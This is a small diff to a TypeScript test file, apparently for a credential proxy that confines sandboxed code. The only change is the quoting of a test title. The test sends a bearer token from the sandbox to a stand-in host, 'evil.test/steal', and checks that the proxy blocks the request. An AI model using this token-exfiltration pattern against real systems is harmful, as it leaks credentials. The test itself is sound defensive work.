@@ -26,7 +26,7 @@ after(() => world.close());
 
 const sawReal = (): boolean => world.upstream.seen.some((s) => JSON.stringify(s.headers).includes(REAL));
 
-test('without Proxy-Authorization a stand-in still obeys its own sandbox\'s allow_out', async () => {
+test("without Proxy-Authorization a stand-in still obeys its own sandbox's allow_out", async () => {
   const res = await world.fetchAs(undefined, 'https://evil.test/steal', { headers: { authorization: `Bearer ${confined.env.T}` } });
   assert.equal(res.status, 403);
   assert.equal(res.headers['x-credproxy-reason'], 'host_not_allowed');
